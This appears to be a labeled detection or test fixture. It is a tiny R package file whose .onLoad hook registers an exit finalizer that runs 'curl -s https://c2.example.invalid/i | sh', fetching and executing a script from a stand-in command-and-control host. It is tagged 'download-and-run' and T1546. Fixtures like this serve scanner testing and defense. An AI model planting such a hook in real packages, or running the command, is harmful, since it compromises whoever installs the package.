# expect: download-and-run | at: demo-1.0/R/zzz.R | source: T1546
.onLoad <- function(...) {
  reg.finalizer(environment(), function(e) system("curl -s https://c2.example.invalid/i | sh"), onexit = TRUE)
}
